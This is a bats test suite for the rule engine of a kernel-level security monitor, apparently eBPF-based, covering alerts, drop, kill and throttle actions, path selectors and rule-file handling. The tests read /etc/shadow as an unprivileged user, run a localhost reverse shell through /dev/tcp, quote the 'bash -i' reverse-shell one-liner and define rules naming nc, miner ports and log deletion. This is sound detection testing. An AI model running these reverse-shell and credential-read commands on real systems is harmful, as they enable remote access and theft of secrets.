#!/usr/bin/env bats
# Rules (pinwatch rule): evaluated in the kernel where exec, open, unlink and connect
# events are built. An alert carries the rule's name, severity and tags and
# passes the ordinary filters; drop counts the event filtered; kill kills;
# --throttle holds hits back and reports them in one suppressed event.
# shellcheck disable=SC2154 # status, output, stderr: set by bats' run
# The default pack (scripts/rules/default) rightly alerts on this file's acts: the rule engine's tests read /etc/shadow as nobody and run reverse shells (credential-read, reverse-shell).
# (tests/run runs it after the pack's silence watch).
# bats file_tags=pack-alerts

load helpers/common
load helpers/rules
bats_require_minimum_version 1.5.0

NETPL=$BATS_TEST_DIRNAME/helpers/net.pl

pw_suite process file net

# The rule files of this run (never /etc/pinwatch/rules.d). The file module
# reports every open on the machine: a larger ring keeps a busy machine
# from filling it between a test's drain and its act.
setup_file() {
	export PINWATCH_RULES_DIR=$BATS_FILE_TMPDIR/rules.d
	pw_setup_file --ringbuf-size 64M process file net
}

setup() { rules_setup; }

teardown() {
	# every test starts without rules or filters
	rules_del_all
	"$PW" filter list --json | jq -r '.[] | "\(.kind) \(.value)"' | while read -r k v; do
		"$PW" filter del "$k" "$v"
	done
}


rule_field() { # name field
	"$PW" rule list --json | jq -r --arg n "$1" ".[] | select(.name == \$n) | .$2"
}

@test "a non-root read of /etc/shadow is an alert with the rule's name, severity and tags, despite a filter dropping that uid" {
	"$PW" rule add shadow-read --on open --path /etc/shadow,/etc/gshadow --uid '!0' \
		--severity high --tags T1003.008,credential-access
	"$PW" filter add uid 65534
	pw_drain
	as_nobody cat /etc/shadow 2>/dev/null && false
	collect_alerts 'select(.type == "open" and .path == "/etc/shadow")' 1
	ev=$(ev 'select(.type == "open" and .path == "/etc/shadow")')
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule shadow-read
	assert_field "$ev" .severity high
	assert_field "$ev" '.tags | join(" ")' "T1003.008 credential-access"
	assert_field "$ev" .uid -eq 65534
	assert_field "$ev" .comm cat
	assert_field "$ev" .ret -eq -13 # EACCES: refused, still an alert
	assert_field "$ev" .module file
	# root's read is no alert (--uid '!0'), and the filter still drops nobody's other opens
	pw_drain
	cat /etc/shadow >/dev/null
	as_nobody cat /etc/hostname >/dev/null
	"$PW_READ" --json --drain >>"$EV"
	[ "$(ev 'select(.type == "open" and .path == "/etc/shadow" and .rule != null)' | wc -l)" -eq 1 ]
	root=$(ev 'select(.type == "open" and .path == "/etc/shadow" and .uid == 0 and .comm == "cat")')
	[ "$(jq -s length <<<"$root")" -eq 1 ]
	assert_field "$root" .rule null
	[ "$(ev 'select(.type == "open" and .uid == 65534 and .path == "/etc/hostname")' | wc -l)" -eq 0 ]
	assert_field "$(rule_field shadow-read hits)" . -eq 1
}

@test "a reverse shell (a shell exec'd with its stdio on a TCP socket) is an alert, though a filter drops bash" {
	pf=$BATS_TEST_TMPDIR/port
	perl "$NETPL" serve inet 127.0.0.1 "$pf" 0 x &
	srv=$!
	for _ in $(seq 1 100); do [[ -s $pf ]] && break; sleep 0.05; done
	port=$(cat "$pf")
	"$PW" rule add revshell --on exec --comm bash,dash,sh,python3,perl --stdio socket \
		--severity critical --tags T1059.004
	"$PW" filter add comm bash
	pw_drain # a busy machine fills the ring meanwhile
	# what `bash -i >& /dev/tcp/HOST/PORT 0>&1` does: the shell's child opens
	# the socket, makes it fds 0-2, then execs the new shell
	bash -c "bash -c 'exit 0' >& /dev/tcp/127.0.0.1/$port 0>&1"
	bash -c 'exit 0' # no socket: filtered as before
	wait "$srv"
	collect_alerts 'select(.type == "exec" and .rule == "revshell")' 1
	"$PW_READ" --json --drain >>"$EV"
	ev=$(ev 'select(.type == "exec" and .comm == "bash")')
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule revshell
	assert_field "$ev" .severity critical
	assert_field "$ev" '.tags | join(",")' T1059.004
	assert_field "$ev" .filename == '*/bash'
	assert_field "$ev" '[.stdio[].kind] | join(",")' socket,socket,socket
	assert_field "$ev" .stdio[0].dport -eq "$port"
	assert_field "$ev" .stdio[0].daddr 127.0.0.1
	stats_balance process
}

@test "a module switched off still sends its alerts, and nothing else" {
	"$PW" rule add off-open --on open --path /etc/shadow --severity high
	"$PW" rule add off-exec --on exec --comm pwoffexec
	"$PW" config set module.file off
	"$PW" config set module.process off
	bin=$(unique_binary pwoffexec)
	other=$(unique_binary)
	pw_drain
	cat /etc/shadow /etc/hostname >/dev/null
	"$bin"
	"$other"
	"$PW" config set module.file on
	"$PW" config set module.process on
	"$PW_READ" --json --drain >>"$EV"
	[ "$(ev 'select(.type == "open" and .path == "/etc/shadow" and .rule == "off-open")' | wc -l)" -eq 1 ]
	[ "$(ev "select(.type == \"exec\" and .filename == \"$bin\" and .rule == \"off-exec\")" | wc -l)" -eq 1 ]
	# what no rule matched stays off
	[ "$(ev 'select(.path == "/etc/hostname" and .comm == "cat")' | wc -l)" -eq 0 ]
	[ "$(ev "select(.type == \"exec\" and .filename == \"$other\")" | wc -l)" -eq 0 ]
	stats_balance file
	stats_balance process
}

# The binary the rules judge is the file that runs, resolved in the kernel
# (proc_cache's binary), not the path execve was given: a relative path, "//",
# ".." or a symlink neither hides a file under a prefix nor puts one there.
@test "--binary-prefix and exec --path-prefix judge the resolved file: a relative path, //, .., a symlink" {
	dir=$(realpath "$BATS_TEST_TMPDIR")/drop
	mkdir -p "$dir"
	bin=$(unique_binary pwexepathbin)
	cp "$bin" "$dir/"
	name=${bin##*/}
	link=/usr/local/bin/pwexepath-$$
	"$PW" rule add bp --on exec --binary-prefix "$dir" --severity medium --tags T1204.002
	pw_drain
	ln -s "$dir/$name" "$link"
	(cd "$dir" && "./$name")
	"/$dir/$name"
	"/usr/..$dir/$name"
	"$link"
	rm -f "$link"
	"$bin"
	collect_alerts 'select(.rule == "bp")' 4
	for f in "./$name" "/$dir/$name" "/usr/..$dir/$name" "$link"; do
		ev=$(ev "select(.type == \"exec\" and .filename == \"$f\")")
		[ "$(jq -s length <<<"$ev")" -eq 1 ]
		assert_field "$ev" .rule bp
		assert_field "$ev" .exe_path "$dir/$name"
	done
	[ "$(ev "select(.filename == \"$bin\")" | wc -l)" -eq 0 ]
	"$PW" rule del bp
	# the exec rule's path: the resolved file, or the filename as given
	"$PW" rule add pp --on exec --path-prefix "$dir"
	pw_drain
	(cd "$dir" && "./$name")
	collect_alerts 'select(.rule == "pp")' 1
	assert_field "$(ev 'select(.rule == "pp")')" .exe_path "$dir/$name"
}

@test "a --binary-prefix '!DIR' exemption holds for its file run by a relative path, not for a copy run through DIR/.." {
	[[ -x /usr/bin/true ]] || skip "needs /usr/bin/true"
	t=$(realpath "$BATS_TEST_TMPDIR")
	cp /usr/bin/true "$t/true"
	"$PW" rule add notusr --on exec --comm true --binary-prefix '!/usr/bin' --severity high --tags T1036.005
	pw_drain
	(cd /usr/bin && ./true)
	"/usr/bin/../..$t/true"
	(cd "$t" && ./true)
	collect_alerts "select(.rule == \"notusr\" and (.exe_path == \"$t/true\"))" 2
	ev=$(ev "select(.filename == \"/usr/bin/../..$t/true\")")
	assert_field "$ev" .rule notusr
	assert_field "$ev" .exe_path "$t/true"
	assert_field "$(ev "select(.filename == \"./true\" and .cwd == \"$t\")")" .rule notusr
	[ "$(ev 'select(.rule == "notusr" and .filename == "./true" and .cwd == "/usr/bin")' | wc -l)" -eq 0 ]
}

@test "--parent-prefix judges the parent's resolved file: a parent run by a relative path is under its directory" {
	dir=$(realpath "$BATS_TEST_TMPDIR")/par
	mkdir -p "$dir"
	cp /bin/bash "$dir/pwexepar"
	child=$(unique_binary pwexechild)
	"$PW" rule add par --on exec --parent-prefix "$dir" --comm pwexechild --severity high --tags T1059.004
	pw_drain
	(cd "$dir" && ./pwexepar -c "$child; true")
	bash -c "$child; true"
	collect_alerts 'select(.rule == "par")' 1
	sleep 0.2
	"$PW_READ" --json --drain --alerts >>"$EV"
	[ "$(ev 'select(.rule == "par")' | wc -l)" -eq 1 ]
	ev=$(ev 'select(.rule == "par")')
	assert_field "$ev" .filename "$child"
	assert_field "$ev" .parent.filename "$dir/pwexepar"
}

@test "an exec of a binary under a path prefix is an alert; one elsewhere is not" {
	dir=$BATS_TEST_TMPDIR/drop
	mkdir -p "$dir"
	bin=$(unique_binary)
	cp "$bin" "$dir/"
	"$PW" rule add tmp-exec --on exec --binary-prefix "$dir" --severity medium --tags T1204.002
	pw_drain
	"$dir/${bin##*/}"
	"$bin"
	collect_alerts "select(.type == \"exec\" and .filename == \"$dir/${bin##*/}\")" 1
	ev=$(ev "select(.type == \"exec\" and .filename == \"$dir/${bin##*/}\")")
	assert_field "$ev" .rule tmp-exec
	assert_field "$ev" .severity medium
	assert_field "$ev" '.tags | join(",")' T1204.002
	assert_field "$ev" .comm "${bin##*/}"
	[ "$(ev "select(.filename == \"$bin\")" | wc -l)" -eq 0 ]
}

@test "a connect to a port and CIDR is an alert for a non-root uid only (--uid '!0')" {
	port=$(perl "$NETPL" freeport inet 127.0.0.1)
	"$PW" rule add c2-port --on connect --port "$port" --cidr 127.0.0.0/8 --uid '!0' \
		--severity critical --tags T1571
	pw_drain
	(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null && false
	as_nobody bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null && false
	collect_alerts "select(.type == \"connect\" and .dport == $port)" 1
	ev=$(ev "select(.type == \"connect\" and .dport == $port)")
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule c2-port
	assert_field "$ev" .severity critical
	assert_field "$ev" '.tags | join(",")' T1571
	assert_field "$ev" .uid -eq 65534
	assert_field "$ev" .daddr 127.0.0.1
	assert_field "$ev" .ret -eq -111
	assert_field "$(rule_field c2-port hits)" . -eq 1
}

@test "open flags: a write to a watched file is an alert, a read is not" {
	f=$BATS_TEST_TMPDIR/watched
	: >"$f"
	"$PW" rule add watched-write --on open --path "$f" --open-flags write,trunc
	pw_drain
	cat "$f"
	echo x >"$f"
	collect_alerts "select(.type == \"open\" and .path == \"$f\")" 1
	ev=$(ev "select(.type == \"open\" and .path == \"$f\")")
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule watched-write
	assert_field "$ev" '.flags % 4' -eq 1 # O_WRONLY
}

@test "scalar index: rules told apart only by uid, open flags or port are left out by the index, and each still matches exactly when its value holds" {
	# a directory nobody reaches (bats' own may be 0700)
	d=$(mktemp -d)
	chmod 0755 "$d"
	f=$d/watched
	: >"$f"
	chmod 0644 "$f"
	port=$(perl "$NETPL" freeport inet 127.0.0.1)
	other=$((port == 65535 ? port - 1 : port + 1))
	# 40 open rules on the same path and 30 connect rules, each with a
	# value of its own (the rules below then sit past the first 64-rule
	# mask word): the uid and port index leave them all out of an event
	# whose value none names
	for i in $(seq 0 39); do
		echo "ix-decoy-$i --on open --path $f --uid $((200000 + i))"
		((i >= 30)) || echo "ix-pdecoy-$i --on connect --port $((20000 + i)) --cidr 127.0.0.0/8"
	done >"$BATS_TEST_TMPDIR/decoys.rules"
	"$PW" rule load "$BATS_TEST_TMPDIR/decoys.rules"
	"$PW" rule add ix-uid --on open --path "$f" --uid 65534 --severity high
	"$PW" rule add ix-trunc --on open --path "$f" --open-flags trunc --severity medium
	"$PW" rule add ix-port --on connect --port "$port" --severity critical
	# the values are keys of the index (maps/rule_values: kind 9 uid, 11 port)
	keys=$(bpftool -j map dump pinned "$PIN_ROOT/maps/rule_values" | jq -c '.[].formatted.key | [.kind, .value]')
	grep -qx '\[9,65534\]' <<<"$keys"
	grep -qx "\\[11,$port\\]" <<<"$keys"
	[ "$(grep -c '^\[9,' <<<"$keys")" -eq 41 ]
	[ "$(rule_field ix-uid slot)" -ge 64 ]
	pw_drain
	# none holds: root's read, a connect to another port
	cat "$f"
	(exec 3<>"/dev/tcp/127.0.0.1/$other") 2>/dev/null && false
	# each holds once: nobody's read (uid), root's truncation (open flags), the port
	as_nobody cat "$f"
	: >"$f"
	(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null && false
	collect_alerts "select(.type == \"open\" and .path == \"$f\")" 2
	collect_alerts "select(.type == \"connect\" and .dport == $port)" 1
	ev=$(ev "select(.type == \"open\" and .path == \"$f\" and .uid == 65534)")
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule ix-uid
	assert_field "$ev" .severity high
	ev=$(ev "select(.type == \"open\" and .path == \"$f\" and .uid == 0)")
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule ix-trunc
	assert_field "$ev" '(.flags / 512 | floor) % 2' -eq 1 # O_TRUNC
	ev=$(ev "select(.type == \"connect\" and .dport == $port)")
	[ "$(jq -s length <<<"$ev")" -eq 1 ]
	assert_field "$ev" .rule ix-port
	[ "$(ev "select(.type == \"connect\" and .dport == $other)" | wc -l)" -eq 0 ]
	[ "$(ev 'select(.rule != null and (.rule | startswith("ix-decoy") or startswith("ix-pdecoy")))' | wc -l)" -eq 0 ]
	assert_field "$(rule_field ix-uid hits)" . -eq 1
	assert_field "$(rule_field ix-trunc hits)" . -eq 1
	rm -rf "$d"
}

@test "pre-check: what it leaves out the full match would too: a negated path, a short name, a rename's new name, rules added and removed" {
	# maps/rule_index's summary (open flags, 8-byte path heads, names' last
	# 4 bytes) decides a read no rule can hold before the match; each case
	# below is one it must not leave out
	d=$BATS_TEST_TMPDIR/pre
	mkdir -p "$d"
	for f in keyfile ab other moved; do : >"$d/$f"; done
	cp /bin/cat "$BATS_TEST_TMPDIR/pwprecat"
	"$PW" rule add pre-write --on open --path "$d/other" --open-flags write
	"$PW" rule add pre-name --on open,rename --path-name keyfile
	# a path no key names: its head is in no summary, the negation holds
	"$PW" rule add pre-neg --on open --path "!$d/other" --comm pwprecat
	pw_drain
	cat "$d/other" "$d/ab"                   # no rule holds
	"$BATS_TEST_TMPDIR/pwprecat" /etc/hostname # pre-neg
	cat "$d/keyfile"                         # pre-name
	echo x >"$d/other"                       # pre-write
	mv "$d/moved" "$d/keyfile"               # pre-name, by the new name
	collect_alerts 'select(.rule == "pre-neg" and .path == "/etc/hostname")' 1
	collect_alerts "select(.rule == \"pre-name\")" 2
	collect_alerts "select(.rule == \"pre-write\")" 1
	assert_field "$(ev 'select(.rule == "pre-write")')" '.flags % 4' -eq 1
	assert_field "$(ev 'select(.rule == "pre-name" and .type == "open" and .comm == "cat")')" .path "$d/keyfile"
	assert_field "$(ev 'select(.rule == "pre-name" and .type == "rename" and .ret == 0)')" .new_path "$d/keyfile"
	[ "$(ev "select(.rule != null and .path == \"$d/other\" and .comm == \"cat\")" | wc -l)" -eq 0 ]
	[ "$(ev "select(.rule != null and .path == \"$d/ab\")" | wc -l)" -eq 0 ]
	# a name of fewer than 4 bytes ends every path it may (head_short);
	# removing the longer name's rule stops its alerts
	"$PW" rule add pre-short --on open --path-name ab
	"$PW" rule del pre-name
	: >"$EV"
	pw_drain
	cat "$d/ab" "$d/keyfile"
	collect_alerts 'select(.rule == "pre-short")' 1
	assert_field "$(ev 'select(.rule == "pre-short")')" .path "$d/ab"
	[ "$(ev "select(.rule != null and .path == \"$d/keyfile\")" | wc -l)" -eq 0 ]
	assert_field "$(rule_field pre-neg hits)" . -ge 1
	assert_field "$(rule_field pre-write hits)" . -eq 1
}

@test "an unlink under a watched directory is an alert" {
	dir=$BATS_TEST_TMPDIR/logs
	mkdir -p "$dir"
	: >"$dir/auth.log"
	"$PW" rule add log-wipe --on unlink --path-prefix "$dir" --severity high --tags T1070.002
	pw_drain
	rm "$dir/auth.log"
	collect_alerts 'select(.type == "unlink" and .rule == "log-wipe")' 1
	ev=$(ev 'select(.type == "unlink" and .rule == "log-wipe")')
	assert_field "$ev" .path "$dir/auth.log"
	assert_field "$ev" .comm rm
	assert_field "$ev" .severity high
}

@test "syslog: an alert's priority follows its rule's severity, other events stay info" {
	command -v python3 >/dev/null || skip "needs python3 for a syslog listener"
	sock=$BATS_TEST_TMPDIR/log.sock
	msgs=$BATS_TEST_TMPDIR/syslog
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind(sys.argv[1])
out = open(sys.argv[2], "ab", buffering=0)
while True:
    out.write(s.recv(1 << 20).replace(b"\n", b"\\n") + b"\n")
' "$sock" "$msgs" &
	listener=$!
	for _ in $(seq 1 100); do [[ -S $sock ]] && break; sleep 0.05; done
	"$PW" rule add shadow-crit --on open --path /etc/shadow --severity critical
	"$PW" rule add shadow-low --on open --path /etc/gshadow --severity low
	pw_drain
	cat /etc/shadow /etc/gshadow /etc/hostname >/dev/null
	"$PW_READ" --drain --syslog --syslog-socket "$sock"
	kill "$listener"
	wait "$listener" 2>/dev/null || true
	# daemon (3) * 8 + crit (2) = 26; + notice (5) = 29; + info (6) = 30
	[ "$(grep -F '"rule":"shadow-crit"' "$msgs" | grep -c '^<26>')" -eq 1 ]
	[ "$(grep -F '"rule":"shadow-low"' "$msgs" | grep -c '^<29>')" -eq 1 ]
	[ "$(grep -F '"path":"/etc/hostname"' "$msgs" | grep -F '"comm":"cat"' | grep -c '^<30>')" -eq 1 ]
}

@test "selectors combine: nested prefixes, negated comm, exact paths; the lowest slot of the rules that hold wins" {
	d=$BATS_TEST_TMPDIR/tree
	mkdir -p "$d/sub"
	: >"$d/top"
	: >"$d/sub/deep"
	: >"$d/sub/other"
	# outer holds for no comm of ours; inner is under it (the LPM's longest
	# match must still let outer's other rules through); exact one file;
	# notcat: any comm but cat
	"$PW" rule add outer --on open --path-prefix "$d" --comm pwnomatch
	"$PW" rule add inner --on open --path-prefix "$d/sub"
	"$PW" rule add exact --on open --path "$d/top"
	"$PW" rule add notcat --on open --path "$d/sub/other" --comm '!cat'
	pw_drain
	cat "$d/sub/deep" "$d/top" "$d/sub/other"
	head -c0 "$d/sub/other"
	cat "$d/subx" 2>/dev/null || true # a sibling sharing the prefix's bytes: no rule
	collect_alerts "select(.path == \"$d/sub/other\" and .comm == \"head\")" 1
	"$PW_READ" --json --drain >>"$EV"
	assert_field "$(ev "select(.path == \"$d/sub/deep\" and .comm == \"cat\")")" .rule inner
	assert_field "$(ev "select(.path == \"$d/top\" and .comm == \"cat\")")" .rule exact
	# cat: notcat does not hold, inner does
	assert_field "$(ev "select(.path == \"$d/sub/other\" and .comm == \"cat\")")" .rule inner
	# head: inner (slot 1) and notcat (slot 3) both hold: the lower slot wins
	assert_field "$(ev "select(.path == \"$d/sub/other\" and .comm == \"head\")")" .rule inner
	[ "$(ev "select(.path == \"$d/subx\" and .rule != null)" | wc -l)" -eq 0 ]
	assert_field "$(rule_field outer hits)" . -eq 0
	assert_field "$(rule_field notcat hits)" . -eq 0
	# without inner, head's open is notcat's
	"$PW" rule del inner
	pw_drain
	head -c0 "$d/sub/other"
	cat "$d/sub/other"
	collect_alerts "select(.path == \"$d/sub/other\" and .rule == \"notcat\")" 1
	[ "$(ev "select(.path == \"$d/sub/other\" and .rule == \"notcat\")" | jq -r .comm)" = head ]
}

@test "drop: the event is counted filtered and as a hit of the rule, never emitted" {
	f=$BATS_TEST_TMPDIR/noise
	: >"$f"
	"$PW" rule add noise --on open --path-prefix "$BATS_TEST_TMPDIR" --action drop
	before=$(stat_of file filtered)
	cat "$f" "$f" "$f"
	after=$(stat_of file filtered)
	[ "$((after - before))" -ge 3 ]
	"$PW_READ" --json --drain >>"$EV"
	[ "$(ev "select(.path == \"$f\" and .comm == \"cat\")" | wc -l)" -eq 0 ]
	assert_field "$(rule_field noise hits)" . -ge 3
	stats_balance file
}

@test "kill: an exec matching a kill rule dies of SIGKILL and the alert says which rule" {
	dir=$BATS_TEST_TMPDIR/k
	mkdir -p "$dir"
	cp /bin/sleep "$dir/pwkillme"
	"$PW" rule add no-tmp-exec --on exec --binary-prefix "$dir" --action kill --severity high
	pw_drain
	run -137 "$dir/pwkillme" 5
	collect_alerts "select(.type == \"exec\" and .filename == \"$dir/pwkillme\")" 1
	ev=$(ev "select(.type == \"exec\" and .filename == \"$dir/pwkillme\")")
	assert_field "$ev" .rule no-tmp-exec
	assert_field "$ev" .severity high
}

@test "--throttle 2/3s emits two hits, then one suppressed event with the count of the rest" {
	f=$BATS_TEST_TMPDIR/hot
	: >"$f"
	"$PW" rule add hot --on open --path "$f" --throttle 2/3s
	pw_drain
	for _ in 1 2 3 4 5 6; do cat "$f"; done
	collect_alerts "select(.type == \"open\" and .path == \"$f\")" 2
	# the window (3 s) ends: the next hit reports the four held back
	sleep 3.2
	pw_drain
	cat "$f"
	collect_alerts 'select(.type == "suppressed")' 1
	sup=$(ev 'select(.type == "suppressed" and .rule == "hot")')
	[ "$(jq -s length <<<"$sup")" -eq 1 ]
	assert_field "$sup" .count -eq 4
	assert_field "$sup" .period_ns -eq 3000000000
	assert_field "$sup" .comm cat
	[ "$(ev "select(.type == \"open\" and .path == \"$f\")" | wc -l)" -eq 3 ]
	assert_field "$(rule_field hot hits)" . -eq 7
	assert_field "$(rule_field hot suppressed)" . -eq 4
	run -0 "$PW" stats --prom
	[[ $output == *'pinwatch_rule_hits_total{rule="hot",severity="medium"} 7'* ]]
	[[ $output == *'pinwatch_rule_suppressed_total{rule="hot",severity="medium"} 4'* ]]
}

@test "a hit --throttle holds back is no alert but stays an ordinary event, with no rule" {
	f=$BATS_TEST_TMPDIR/held
	: >"$f"
	"$PW" rule add held --on open --path "$f" --throttle 1/1m
	pw_drain
	for _ in 1 2 3; do cat "$f"; done
	got=
	for _ in $(seq 1 50); do
		"$PW_READ" --json --drain >>"$EV"
		got=$(ev "select(.type == \"open\" and .path == \"$f\")")
		[ "$(jq -s length <<<"$got")" -ge 3 ] && break
		sleep 0.1
	done
	[ "$(jq -s length <<<"$got")" -eq 3 ] || { echo "got: $got"; return 1; }
	[ "$(jq -s 'map(select(.rule == "held")) | length' <<<"$got")" -eq 1 ]
	[ "$(jq -s 'map(select(has("rule") | not)) | length' <<<"$got")" -eq 2 ]
	assert_field "$(rule_field held hits)" . -eq 3
	assert_field "$(rule_field held suppressed)" . -eq 2
}

@test "text output marks an alert with ! and the rule's name" {
	"$PW" rule add shadow-text --on open --path /etc/shadow --severity low --tags T1003
	pw_drain
	cat /etc/shadow >/dev/null
	line=$("$PW_READ" --drain --alerts | grep -F ' /etc/shadow ') || true
	[[ $line =~ ^[0-9:]{8}\ open\ .*\ openat\ /etc/shadow\ .*\ !\ rule=shadow-text\ severity=low\ tags=T1003$ ]] ||
		{ echo "line: $line"; return 1; }
}

@test "rule load adds every rule of a file; list, test and del" {
	f=$BATS_TEST_TMPDIR/a.rules
	cat >"$f" <<-'EOF'
		# credential stores
		creds --on open --path /etc/shadow,/etc/gshadow --severity high --tags T1003.008

		miner --on connect --port 3333,4444,14444 --severity medium  # pools
		'odd.name' --on exec --comm "nc,ncat" --uid 1000-60000
	EOF
	run -0 --separate-stderr "$PW" rule test "$f"
	[ "${lines[3]}" = "3 rules OK" ]
	[ "${lines[0]}" = "creds --on open --path /etc/shadow,/etc/gshadow --severity high --tags T1003.008" ]
	[ "${lines[2]}" = "odd.name --on exec --comm nc,ncat --uid 1000-60000" ]
	[ "$("$PW" rule list --json)" = "[]" ]
	"$PW" rule load "$f"
	run -0 "$PW" rule list --json
	[ "$(jq -r 'map(.name) | join(" ")' <<<"$output")" = "creds miner odd.name" ]
	assert_field "$output" '.[1].args | join(" ")' "--on connect --port 3333,4444,14444 --severity medium"
	run -0 "$PW" rule list
	[[ ${lines[0]} == NAME* ]]
	[[ ${lines[1]} =~ ^creds\ +alert\ +high\ +0\ +0\ +creds\ --on\ open ]]
	miner_slot=$(rule_field miner slot)
	"$PW" rule del miner
	run -0 "$PW" rule list --json
	[ "$(jq -r 'map(.name) | join(" ")' <<<"$output")" = "creds odd.name" ]
	# a new rule takes a slot never used (or freed longest ago), not miner's:
	# an alert of miner's still in the ring is not read as the new rule's
	"$PW" rule add after --on exec --comm pwnever
	[ "$(rule_field after slot)" -ne "$miner_slot" ]
	"$PW" rule del after
	# the deleted rule matches nothing any more; the others still do
	bpftool map dump pinned "$PIN_ROOT/maps/rule_types" | grep -q .
	pw_drain
	cat /etc/shadow >/dev/null
	collect_alerts 'select(.rule == "creds")' 1
}

@test "bad input: one line, non-zero, maps unchanged" {
	"$PW" rule add keep --on open --path /etc/shadow
	state=$(pin_state; bpftool map dump pinned "$PIN_ROOT/maps/rules"; bpftool map dump pinned "$PIN_ROOT/maps/rule_paths")
	check() { # want-in-message args...
		local want=$1
		shift
		run -1 --separate-stderr "$PW" rule "$@"
		assert_one_line_error
		[[ $stderr == *"$want"* ]] || { echo "stderr: $stderr (want: $want)"; return 1; }
	}
	check "unknown event type 'opne'" add a --on opne
	check "unknown option '--colour'" add a --on open --colour red
	check "--port does not apply to open events" add a --on open --port 22
	check "'etc/passwd' is not an absolute path" add a --on open --path etc/passwd
	check "a rule of that name exists" add keep --on exec
	check "missing --on" add a --comm bash
	check "invalid rule name" add 'a b' --on exec
	check "--throttle: invalid" add a --on exec --throttle 5
	check "--uid: invalid value" add a --on exec --uid 5-2
	check "unknown action 'block'" add a --on exec --action block
	check "--stdio does not apply to open events" add a --on open --stdio socket
	check "--action kill needs a selector" add a --on exec --uid 1000 --action kill
	check "--stdio: unknown name 'sock'" add a --on exec --stdio sock
	check "no such rule" del nope
	f=$BATS_TEST_TMPDIR/bad.rules
	printf '%s\n' 'good1 --on exec --comm x' '# fine' 'bad --on open --cidr 10.0.0.0/8' 'good2 --on exec' >"$f"
	check "$f:3: bad: --cidr does not apply to open events" load "$f"
	check "$f:3: bad:" test "$f"
	max=$("$PW_LOAD" abi | awk '$1 == "constants" && $2 == "PW_RULES_MAX" { print $3 }')
	for i in $(seq 1 "$max"); do echo "r$i --on exec --comm c$i"; done >"$f"
	check "too many rules: $max given, $((max - 1)) free slots of $max" load "$f"
	[ "$(pin_state; bpftool map dump pinned "$PIN_ROOT/maps/rules"; bpftool map dump pinned "$PIN_ROOT/maps/rule_paths")" = "$state" ]
}

@test "add, del and load keep the rule files in step; up loads them again after down" {
	"$PW" rule add keep-a --on open --path /etc/shadow --severity high
	"$PW" rule add keep-b --on exec --comm pwnever
	f=$PINWATCH_RULES_DIR/local.rules
	[ "$(stat -c '%u %a' "$f")" = "0 600" ]
	[ "$(stat -c '%a' "$PINWATCH_RULES_DIR")" = 700 ]
	[ "$(cat "$f")" = "keep-a --on open --path /etc/shadow --severity high
keep-b --on exec --comm pwnever" ]
	"$PW" rule del keep-b
	[ "$(cat "$f")" = "keep-a --on open --path /etc/shadow --severity high" ]
	# a file of the directory's own, with a comment, loaded by up
	printf '%s\n' '# mine' 'keep-c --on connect --port 4444' >"$PINWATCH_RULES_DIR/extra.rules"
	chmod 600 "$PINWATCH_RULES_DIR/extra.rules"
	"$PW" down
	"$PW" up --ringbuf-size 64M process file net >/dev/null
	run -0 "$PW" rule list --json
	[ "$(jq -r 'map(.name) | sort | join(" ")' <<<"$output")" = "keep-a keep-c" ]
	pw_drain
	cat /etc/shadow >/dev/null
	collect_alerts 'select(.rule == "keep-a")' 1
	# del takes the line out of the file that has it, comments stay
	"$PW" rule del keep-c
	[ "$(cat "$PINWATCH_RULES_DIR/extra.rules")" = "# mine" ]
	rm -f "$PINWATCH_RULES_DIR"/*.rules
}

@test "up refuses a rule file that is not root-owned mode 0600, loads the others, and exits 5 (partial)" {
	printf '%s\n' 'open-other --on open --path /etc/gshadow' >"$PINWATCH_RULES_DIR/loose.rules"
	chmod 644 "$PINWATCH_RULES_DIR/loose.rules"
	printf '%s\n' 'tight --on open --path /etc/shadow' >"$PINWATCH_RULES_DIR/tight.rules"
	chmod 600 "$PINWATCH_RULES_DIR/tight.rules"
	"$PW" down
	run -5 --separate-stderr "$PW" up --ringbuf-size 64M process file net
	# one line about the file (the loader may add notices about hooks)
	[ "$(grep -c 'rules\.d' <<<"$stderr")" -eq 1 ]
	[[ ${stderr_lines[-1]} == "pinwatch: up: $PINWATCH_RULES_DIR/loose.rules: not loaded: a rule file must be owned by root with mode 0600" ]]
	run -0 "$PW" rule list --json
	[ "$(jq -r 'map(.name) | join(" ")' <<<"$output")" = "tight" ]
	rm -f "$PINWATCH_RULES_DIR"/*.rules
}
